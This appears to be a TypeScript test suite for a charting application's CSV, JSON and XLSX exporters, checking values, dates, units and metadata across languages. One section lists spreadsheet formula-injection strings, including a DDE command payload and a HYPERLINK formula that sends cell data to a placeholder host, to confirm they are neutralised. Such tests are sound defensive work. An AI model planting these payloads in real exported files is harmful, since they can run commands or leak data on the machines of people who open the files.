import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import type { ChartWords } from '#charts/kit/definition.ts';
import type { ChartTable } from '#charts/kit/table.ts';
import { filtersInWords } from '#charts/kit/frame/stamp.ts';
import { sampleOverview } from '#charts/kit/overview.fixture.ts';
import { chartIds, findChart } from '#charts/registry.ts';
import { languages } from '#domain/values/language.ts';
import { spreadsheetSafe } from '#charts/kit/spreadsheet-safe.ts';
import { toCsv } from '#server/exports/formats/csv/to-csv.ts';
import { toJson } from '#server/exports/figure/to-json.ts';
import { toXlsx } from '#server/exports/formats/xlsx/to-xlsx.ts';
import { cleanText } from '#server/imports/read/cell-text.ts';
import Papa from 'papaparse';
import { hasOffice, officeTurns } from '../setup/documents/viewers.ts';

const words: ChartWords = {
  title: 'A title',
  subtitle: 'A subtitle',
  unit: 'companies',
  source: 'A source',
  alt: '',
  notes: ['A note'],
  data_status: 'illustrative',
  as_of: '2021-03-31',
  key: [],
};
const table = (
  cells: readonly (string | null)[],
  kind: 'text' | 'number' | 'date' = 'text',
): ChartTable => ({
  columns: [
    kind === 'number'
      ? { id: 'value', label: 'Value', kind, measure: null }
      : { id: 'value', label: 'Value', kind },
    { id: 'data_status', label: 'Status', kind: 'text' },
  ],
  rows: cells.map((cell) => [cell, cell === null ? 'Not reported' : 'Reported']),
});
const sheetOf = (bytes: Uint8Array, number = 1): string =>
  strFromU8(unzipSync(bytes)[`xl/worksheets/sheet${number}.xml`] ?? new Uint8Array());
const stylesOf = (bytes: Uint8Array): string =>
  strFromU8(unzipSync(bytes)['xl/styles.xml'] ?? new Uint8Array());

describe('the clean CSV', () => {
  it('has its header in the first line, no mark, exact values, and an empty cell with a reason for a missing value', () => {
    const csv = toCsv(table(['0.1', '1000000000000000000000', null], 'number'), words, {
      excel: false,
      language: 'en',
      register_as_of: '2021-03-31',
    });
    expect(csv).toBe(
      'value,data_status,unit,register_as_of\r\n0.1,Reported,companies,2021-03-31\r\n1000000000000000000000,Reported,companies,2021-03-31\r\n,Not reported,companies,2021-03-31\r\n',
    );
  });

  it('quotes only where needed, and a round trip changes nothing', () => {
    const texts = ['a,b', 'say "x"', 'two\nlines', ' edge ', '=1+1', '中日'];
    const csv = Papa.parse<Record<string, string>>(
      toCsv(table(texts), words, { excel: false, language: 'en', register_as_of: '2021-03-31' }),
      {
        header: true,
        skipEmptyLines: true,
      },
    );
    expect(csv.data.map((row) => row['value'])).toEqual(texts);
  });
});

describe('the CSV for Excel', () => {
  it('begins with the byte order mark and keeps text from being run, but does not change numbers', () => {
    const csv = toCsv(table(['=cmd|x', '+1', '-5.5', '@SUM(A1)', '-a', '12']), words, {
      excel: true,
      language: 'en',
      register_as_of: '2021-03-31',
    });
    expect(csv.startsWith('\ufeffValue,')).toBe(true);
    expect(csv).toContain("'=cmd|x,");
    expect(csv).toContain("'@SUM(A1)");
    expect(csv).toContain("'-a,");
    for (const number of ['+1', '-5.5', '12', '-1e6']) expect(spreadsheetSafe(number)).toBe(number);
    for (const text of ['\tx', '\r=x', '=1']) expect(spreadsheetSafe(text)).toBe(`'${text}`);
  });
});

const money: ChartTable = {
  columns: [
    {
      id: 'value',
      label: 'Value',
      kind: 'number',
      measure: null,
      unit: '亿元',
      scale: 8,
      digits: 1,
    },
    { id: 'date', label: 'Date', kind: 'date' },
  ],
  rows: [
    ['790000000', '2021-03-31'],
    ['-57000000', '2020-02-29'],
    [null, null],
  ],
};
const yuan: ChartWords = { ...words, exact_unit: 'CNY' };

describe('the workbook', () => {
  it('has exact numbers in the unit of their heading, dates as dates, and empty cells for missing values', () => {
    const bytes = toXlsx(money, yuan, 'zh-CN');
    expect(sheetOf(bytes)).toContain('Value（亿元）');
    expect(sheetOf(bytes)).toContain('<v>7.9</v>');
    expect(sheetOf(bytes)).toContain('<v>-0.57</v>');
    expect(sheetOf(bytes)).toMatch(/<v>44286<\/v>/);
    expect(sheetOf(bytes)).not.toContain('<f>');
    expect(stylesOf(bytes)).toContain('formatCode="#,##0.00"');
    expect(stylesOf(bytes)).not.toContain('亿元');
  });

  it.skipIf(!hasOffice)(
    'sums in LibreOffice to the stored values, −0.57 as a number',
    () => {
      const sheet = officeTurns('a.xlsx', toXlsx(money, yuan, 'zh-CN'), 'fods').toString();
      expect(sheet).toMatch(/office:value-type="float" office:value="7\.9"[^>]*>\s*<text:p>7\.9</);
      expect(sheet).toMatch(/office:value="-0\.57"[^>]*>\s*<text:p>-0\.57</);
      expect(sheet).toContain('office:date-value="2020-02-29"');
    },
    120_000,
  );

  it('keeps formula-like text as text', () => {
    const sheet = sheetOf(toXlsx(table(['=1+1', '+cmd', '@x']), words, 'en'));
    expect(sheet).not.toContain('<f>');
    expect(sheet).toContain('=1+1');
  });

  it('has title, unit, day, source, status and the mark of invented values on the first sheet, and definitions on the second', () => {
    for (const language of languages) {
      const stamp = {
        revision: 7,
        made_at: '2021-05-01T00:00:00.000Z',
        link: 'https://progress.example.org/',
        plan: 'straight' as const,
      };
      const bytes = toXlsx(table(['1'], 'number'), words, language, { stamp });
      for (const text of [
        'A title',
        'companies',
        'A source',
        { 'zh-CN': '示例数据（虚构）', ja: '架空データ', en: 'Illustrative data (fictional)' }[
          language
        ],
      ])
        expect(sheetOf(bytes)).toContain(text);
      for (const text of [
        'A note',
        'A source',
        'https://progress.example.org/',
        ...filtersInWords(stamp, language),
        { 'zh-CN': '第7次修订', ja: '改訂7', en: 'revision 7' }[language],
      ])
        expect(sheetOf(bytes, 2)).toContain(text);
      // seen to fail: people read the ids of programs beside the columns
      const [column] = table(['1'], 'number').columns;
      expect(sheetOf(bytes, 2)).toContain(`>${column?.label}<`);
      expect(sheetOf(bytes, 2)).not.toContain(`(${column?.id})`);
      expect(
        Buffer.from(toXlsx(table(['1'], 'number'), words, language, { stamp })).equals(bytes),
      ).toBe(true);
    }
  });
});

describe('text that a spreadsheet would run', () => {
  const texts = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1,1)',
    '=HYPERLINK("http://a.invalid/?x="&A1,"click")',
    "=cmd|'/C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '"=1+1',
    '＝1+1',
    '+7 495 123-45-67',
  ];
  const numbers = ['-5.5', '1e-7', '-1e15', '-0.004'];
  it.skipIf(!hasOffice)(
    'is no formula in LibreOffice, in CSV for Excel and in XLSX, and numbers stay numbers',
    () => {
      const csv = new TextEncoder().encode(
        toCsv(table([...texts, ...numbers]), words, {
          excel: true,
          language: 'en',
          register_as_of: '2021-03-31',
        }),
      );
      const sheets = [
        officeTurns('a.csv', csv, 'fods'),
        officeTurns('a.xlsx', toXlsx(table(texts), words, 'en'), 'fods'),
      ].map(String);
      for (const one of sheets) expect(one).not.toContain('table:formula=');
      const floats = [
        ...(sheets[0] ?? '').matchAll(/office:value-type="float" office:value="([^"]*)"/g),
      ].map(([, value]) => Number(value));
      expect(floats).toEqual(numbers.map(Number));
    },
    120_000,
  );

  it('does not change the dash of missing data, and is imported unchanged', () => {
    expect(spreadsheetSafe('-')).toBe('-');
    expect(spreadsheetSafe('＝1+1')).toBe("'＝1+1");
    for (const text of texts) expect(cleanText(spreadsheetSafe(text)), text).toBe(cleanText(text));
  });
});

describe.each(chartIds)('the files of %s', (id) => {
  it('hold exactly the rows drawn, in each language', () => {
    for (const language of languages) {
      const context = { language, options: {} };
      const chartTable = findChart(id).toTable(sampleOverview, context);
      const chartWords = findChart(id).words(sampleOverview, context);
      const csv = Papa.parse<string[]>(
        toCsv(chartTable, chartWords, { excel: false, language, register_as_of: '2021-03-31' }),
        {
          skipEmptyLines: true,
        },
      ).data;
      expect(csv).toHaveLength(chartTable.rows.length + 1);
      const labels = (csv[0] ?? []).map((name) => name.replace(/_label$/, ''));
      for (const [at, { id: column }] of chartTable.columns.entries())
        expect(csv[1]?.[labels.lastIndexOf(column)]).toBe(chartTable.rows[0]?.[at] ?? '');
      const input = { id, overview: sampleOverview, context, stamp: undefined };
      const json = toJson(input, chartTable, chartWords);
      expect(json.rows).toHaveLength(chartTable.rows.length);
      expect(json).toMatchObject({
        title: chartWords.title,
        source: chartWords.source,
        as_of: chartWords.as_of,
        data_status: 'illustrative',
      });
      const sheet = sheetOf(toXlsx(chartTable, chartWords, language));
      expect(sheet.match(/<row /g)?.length ?? 0).toBeGreaterThanOrEqual(chartTable.rows.length + 6);
    }
  });
});
